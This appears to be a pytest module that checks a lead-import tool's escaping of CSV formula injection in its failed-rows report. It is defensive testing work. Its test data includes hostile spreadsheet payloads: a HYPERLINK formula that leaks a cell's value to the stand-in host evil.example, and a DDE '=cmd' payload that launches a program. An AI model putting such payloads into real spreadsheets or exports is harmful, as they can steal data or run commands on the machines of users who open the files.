"""CSV formula injection: ``leadgate import``'s failed-rows report must not run what strangers typed into a form.

Reproduces the audit's finding (cells such as ``=HYPERLINK(...)``, ``=cmd|' /C calc'!A0`` and ``@SUM(1+1)``
were written unescaped), through the real command against the sandbox CRM.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from leadgate.cli import main
from leadgate.sandbox import SandboxCRM
from leadgate.spreadsheet import neutralise
from leadgate.spreadsheet import restore
from tests.support.config import API_KEY
from tests.support.config import BASE_CONFIG

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
IMPORT_CONFIG = (
    BASE_CONFIG
    + """  csv-import:
    kind: form
    phone_region: US
"""
)


@pytest.fixture
def config_file(tmp_path: Path, crm: SandboxCRM) -> Path:
    path = tmp_path / "leadgate.yaml"
    path.write_text(IMPORT_CONFIG.format(crm_url=crm.url, api_key=API_KEY), encoding="utf-8")
    return path


def write_rows(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows(rows)
    return path


def import_csv(config_file: Path, path: Path) -> None:
    result = CliRunner().invoke(main, ["import", str(path), "--source", "csv-import", "--config", str(config_file)])
    assert result.exit_code in (0, 1), result.output  # 1: some rows were refused, which these tests want


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


@pytest.mark.parametrize("formula", FORMULAS)
def test_neutralise_prefixes_every_formula_start_and_restore_undoes_it(formula: str):
    assert neutralise(formula) == "'" + formula
    assert restore(neutralise(formula)) == formula


@pytest.mark.parametrize("plain", ["Jane", "jane@example.com", "'quoted already", "", "1+1", "a=b"])
def test_plain_cells_are_written_as_they_are(plain: str):
    assert neutralise(plain) == plain
    assert restore(plain) == plain


def test_no_cell_of_the_failed_rows_report_starts_a_formula(config_file: Path, tmp_path: Path, crm: SandboxCRM):
    """ConnectGain refuses the chunk; every row lands in the report with its formulas, and none can run there."""
    header = ["Name", "Email", "Notes", *FORMULAS[:1]]  # a header cell is a stranger's text too
    rows = [[formula, f"user{i}@example.com", formula, formula] for i, formula in enumerate(FORMULAS)]
    source = write_rows(tmp_path / "people.csv", [header, *rows])
    crm.set_faults(status=400)
    import_csv(config_file, source)
    cells = read_cells(tmp_path / "people.failed.csv")
    assert len(cells) == 1 + len(FORMULAS)
    written = [cell for row in cells for cell in row]
    assert not [cell for cell in written if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert cells[0][-1] == "'" + FORMULAS[0]
    assert [row[2] for row in cells[1:]] == ["'" + formula for formula in FORMULAS]  # Name, shown as typed


def test_a_fixed_report_imports_again_with_the_values_as_typed(config_file: Path, tmp_path: Path, crm: SandboxCRM):
    """The escape is leadgate's own: importing the report back sends the CRM what the visitor typed."""
    row = ["-Jo Ann", "jo@example.com", "+1 415 555 0100", "=SUM(1,2)"]
    source = write_rows(tmp_path / "people.csv", [["Name", "Email", "Phone", "Notes"], row])
    crm.set_faults(status=400)
    import_csv(config_file, source)
    crm.clear_faults()
    report = tmp_path / "people.failed.csv"
    assert read_cells(report)[1][2:] == ["'-Jo Ann", "jo@example.com", "'+1 415 555 0100", "'=SUM(1,2)"]
    before = len(crm.requests)
    import_csv(config_file, report)
    [sent] = [
        item
        for request in crm.requests[before:]
        for item in request["body"].get("contacts", request["body"].get("leads", []))
    ]
    contact = sent.get("contact", sent)
    assert contact["email"] == "jo@example.com" and contact["phone"] == "+14155550100"
    assert (contact["first_name"], contact["last_name"], contact["description"]) == ("-Jo", "Ann", "=SUM(1,2)")
